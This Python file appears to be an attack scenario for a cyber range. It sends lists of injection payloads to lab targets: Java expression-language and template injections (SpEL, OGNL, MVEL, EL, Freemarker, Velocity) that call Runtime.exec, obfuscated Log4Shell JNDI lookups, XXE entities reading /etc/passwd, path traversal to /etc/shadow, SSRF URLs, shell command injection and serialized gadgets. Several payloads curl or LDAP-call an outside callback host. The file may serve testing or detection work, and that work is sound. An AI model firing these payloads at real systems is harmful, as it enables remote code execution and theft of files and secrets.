# SPDX-License-Identifier: GPL-2.0-or-later
"""Java: SpEL, OGNL, MVEL, unified EL, Freemarker, Velocity, look-ups in logs, serialised objects, entities, files, fetching."""
import base64, os
from lib.steps import body, form, get, q, values

OUT = '198.51.100.140'
SPEL = ['3*7', "T(java.lang.Runtime).getRuntime().exec('id')", '7919*53', "T(java.lang.System).getenv('BUILD')", "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).useDelimiter('\\A').next()", "'arukom'.toUpperCase()", "T(java.lang.Thread).sleep(2000)", "T(java.lang.Runtime).getRuntime().exec(new String[]{'/bin/sh','-c','curl -s http://%s:9090/sp'})" % OUT,
        "new java.io.File('/etc/passwd').exists()", "T(java.nio.file.Files).readAllLines(T(java.nio.file.Paths).get('/etc/passwd'))", '{1,2,3}.![#this*1111]', "'a'.concat('b').replace('b','xyz')", '1 +', 'mikai', "T(java.lang.Integer).toHexString(48879)", "new java.util.Scanner(new ProcessBuilder('uname','-a').start().getInputStream()).useDelimiter('\\A').next()",
        "2 > 1 ? 'shin' + 7*191 : 'gi'", "T(java.util.Base64).getDecoder().decode('a29tZQ==').length", "new String(T(java.util.Base64).getDecoder().decode('a3VyYS1rb21l'))", "T(java.net.InetAddress).getByName('s7.drop.example')", '${7*7}', '#{7*7}', "''.class.forName('java.lang.Math').getMethod('max',T(int),T(int))"]
OGNL = ['3*7', '7919*59', '@java.lang.Runtime@getRuntime().exec("id")', '@java.lang.System@getenv("BUILD")', 'new java.util.Scanner(@java.lang.Runtime@getRuntime().exec("id").getInputStream()).useDelimiter("\\\\A").next()', '"kome".toUpperCase()', '@java.lang.Thread@sleep(2000)', '#a=31,#a*#a', '@java.lang.Math@max(4177,3)', 'kome * 1009', '(#p=new java.lang.ProcessBuilder({"/bin/sh","-c","curl -s http://%s:9090/og"})).start()' % OUT,
        '{1,2,3}.{#this*1111}', '1 +', 'mikai.fuka', '@java.lang.Integer@toHexString(48879)', "new java.lang.String('kura')+'-'+(83*97)", '%{7*7}', '@java.lang.System@getProperty("os.name")']
MVEL = ['3*7', '7919*61', 'Runtime.getRuntime().exec("id")', 'System.getenv("BUILD")', 'new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream()).useDelimiter("\\\\A").next()', '"kome".toUpperCase()', 'Thread.sleep(2000); 5', 'x = 91; x * x', 'kome * 1013', 'new ProcessBuilder(new String[]{"/bin/sh","-c","curl -s http://%s:9090/mv"}).start()' % OUT, '[1,2,3].size() * 5555', '1 +', 'mikai', 'Integer.toHexString(48879)', "import java.util.*; new Random(7).nextInt(9) * 0 + 'kura-' + (89*97)", "<script>alert(73401)</script>", 'System.getProperty("java.version")', 'if (kome > 3) { "ooi" + kome * 11 } else { "x" }']
EL = ['${7*7}', '${7919*67}', '#{83*101}', '${kome * 1019}', '${"".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")}', '${"kome".toUpperCase()}', '残り ${kome} 俵', '${1 + }', '${mikai}', "${''.getClass().getName()}", '{{7*7}}', '${[1,2,3].stream().map(x->x*1111).toList()}', '${kome > 3 ? "ooi" : "sukunai"}-${91*91}', "${\"\".getClass().forName(\"java.lang.Thread\").getMethod(\"sleep\",\"\".getClass().forName(\"java.lang.Long\").getField(\"TYPE\").get(null)).invoke(null,2000)}"]
FREEMARKER = ['${7*7}', '${7919*71}', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', '${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}', '${kome * 1021}', '<#list 1..3 as i>${i*1111};</#list>', '${"kome"?upper_case}', '${namae}', '${mikai}', '${', '<#if kome gt 3>ooi${kome*3}</#if>', '[#ftl]${8*8}', '<#-- x -->owari', '${"freemarker.template.utility.Execute"?new()("sleep 2")}', '${"freemarker.template.utility.Execute"?new()("curl -s http://%s:9090/fm")}' % OUT, '{{7*7}}', '${.version}', '${"abc"?length * 10007}', '${["a","b"]?join("+")}', '#set($x=1)$x', '${"kura"?cap_first + "-" + (89*89)?c}']
VELOCITY = ['#set($x=7*7)$x', '#set($x=7919*73)$x', '$kome', '#set($s="")#set($r=$s.getClass().forName("java.lang.Runtime").getRuntime().exec("id"))$r.waitFor()', '#set($s="")#set($stringClass=$s.getClass())#set($process=$stringClass.forName("java.lang.Runtime").getRuntime().exec("uname -a"))#set($null=$process.waitFor())#set($is=$process.getInputStream())#foreach($i in [1..$is.available()])$stringClass.forName("java.lang.Character").toString($stringClass.valueOf($is.read()))#end', '#foreach($i in [1..3])$i$i;#end', '$namae.length()', '#if($kome>3)ooi#end', '${7*7}', '$mikai', '#set($x=', '## x', '$!mikai owari', '#set($a="ko")#set($b="me")$a$b$kome', '$kome.getClass().getName()', '#include("/etc/passwd")', '#set($s="")#set($p=$s.getClass().forName("java.lang.Runtime").getRuntime().exec("sleep 2"))$p.waitFor()', "#set($t='a')$t.replace('a','kura-x')"]
JNDI = ['${jndi:ldap://%s:1389/a}' % OUT, '${${lower:j}ndi:${lower:l}dap://%s:1389/b}' % OUT, '${jndi:dns://192.0.2.53/j9.drop.example}', '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://%s:9090/c}' % OUT, '${jndi:ldap://${env:BUILD}.drop.example:1389/d}', '${java:version}', '${env:BUILD}', '${jndi:ldap://127.0.0.1:1389/e}', '${jndi:ldap://192.0.2.99:1389/f}', '${jndi:nada://x/y}', '${${env:NIX:-j}ndi${env:NIX:-:}${env:NIX:-l}dap${env:NIX:-:}//%s:1389/g}' % OUT, '${jndi:rmi://%s:9090/h}' % OUT, 'jndi:ldap://%s:1389/i' % OUT, '${date:yyyy}', '${jndi:ldap://%s:1389/k' % OUT]
DTDS = [('<!ENTITY a SYSTEM "file:///etc/passwd">', '&a;'), ('<!ENTITY a SYSTEM "file:///etc/hostname">', '&a;'), ('<!ENTITY a SYSTEM "http://192.0.2.99/lien.html">', '&a;'), ('<!ENTITY a SYSTEM "http://192.0.2.99/step">', '&a;'), ('<!ENTITY % p SYSTEM "http://192.0.2.99/teil.dtd"> %p;', 'p'), ('<!ENTITY a "naka">', '&a;'), ('<!ENTITY a SYSTEM "file:///etc/nai">', '&a;'), ('<!ENTITY a SYSTEM "file:///etc/">', '&a;'), ('<!ENTITY a SYSTEM "jar:http://192.0.2.99/a.jar!/b">', '&a;'), ('<!ENTITY a SYSTEM "http://j3.drop.example/lien.html">', '&a;')]
URLS = [f'http://{OUT}:9090/jf', 'file:///etc/passwd', 'file:///etc/', 'http://192.0.2.99/lien.html', 'http://127.0.0.1:8080/', 'http://j4.drop.example/lien.html', 'jar:file:///usr/share/java/ognl.jar!/META-INF/MANIFEST.MF', 'netdoc:///etc/hostname', 'http://192.0.2.99:1/', 'ftp://192.0.2.99/', 'gopher://x/', 'http://nirgends.invalid/']
TANA = ['../../../etc/passwd', '../niban.txt', '..%2f', '../../../etc/hostname', '../../../etc/nai', '/etc/passwd', '../classpath', '....//....//etc/passwd', '../../../proc/self/cmdline', '../../../etc/shadow']
TOOI = ['localhost;id', 'localhost|uname -a', '$(hostname)', 'localhost;cat /etc/passwd', ';echo $((7919*79))', ';sleep 2', f';curl -s http://{OUT}:9090/jt', '`id`', 'localhost&&whoami', 'localhost;nai99', '|head -2 /etc/group', ';printf "\\346\\227\\245"']
BUILDS = [('203.0.113.111', 8080), ('203.0.113.112', 8080), ('203.0.113.113', 8080)]


def spaced(steps):
    for step in steps:
        yield dict(step, pause=1.6 if any(w in step['target'] + str(step.get('body')) + str(step.get('headers')) for w in ('192.0.2', '198.51', 'drop.example', 'jndi')) else 0.05)


def gadgets():
    path = os.path.join(os.environ.get('RANGE_LAB', ''), 'truth', 'kura', 'gadgets')
    try:
        with open(path) as file:
            rows = [line.split() for line in file if len(line.split()) == 2]
    except OSError:
        rows = []
    for name, text in rows:
        yield dict(body('/hikitori', base64.b64decode(text), 'application/x-java-serialized-object', 'deserialization'), pause=1.6)
        yield get('/hikitori?nimotsu=' + q(text), 'deserialization', pause=1.6)


def order(dtd, value):
    return f'<?xml version="1.0"?><!DOCTYPE chumon [{dtd}]><chumon><shina>{value}</shina></chumon>'


SCENARIO = [(BUILDS, [
    get('/'), get('/keisan?shiki=' + q('3*7')), *spaced(values('/keisan', 'shiki', 'expression', *SPEL[1:], keep=True)), get('/jouken?siki=' + q('3*7')), *spaced(values('/jouken', 'siki', 'expression', *OGNL[1:])), get('/kisoku?bun=' + q('3*7')), *spaced(values('/kisoku', 'bun', 'expression', *MVEL[1:])),
    get('/rabel?moji=' + q('米 一俵')), *spaced(values('/rabel', 'moji', 'expression', *EL)), form('/tegami', {'bunmen': '${namae} 様'}), *spaced(form('/tegami', {'bunmen': t}, 'ssti') for t in FREEMARKER), form('/fuda', {'bunmen': '$namae'}), *spaced(form('/fuda', {'bunmen': t}, 'ssti', keep=True) for t in VELOCITY),
    get('/sagasu?kotoba=' + q('米')), *spaced(values('/sagasu', 'kotoba', 'jndi', *JNDI)), *spaced(get('/sagasu?kotoba=x', 'jndi', headers={'User-Agent': j}) for j in JNDI[:4]), *spaced(get('/sagasu', 'jndi', headers={'X-Tenpo': j}) for j in JNDI[1:3]), get('/nai', 'jndi', headers={'User-Agent': JNDI[0]}, pause=1.6),
    body('/chumon', '<chumon><shina>米</shina></chumon>', 'application/xml'), *spaced(body('/chumon', order(*d), 'application/xml', 'xxe') for d in DTDS), get('/tana?mei=ichiban.txt'), *values('/tana', 'mei', 'lfi', *TANA), get('/toru?basho=' + q('http://mirror.example.net/')), *spaced(values('/toru', 'basho', 'ssrf', *URLS)),
    get('/tooi?aite=localhost'), *spaced(values('/tooi', 'aite', 'cmdi', *TOOI)), *gadgets()])]
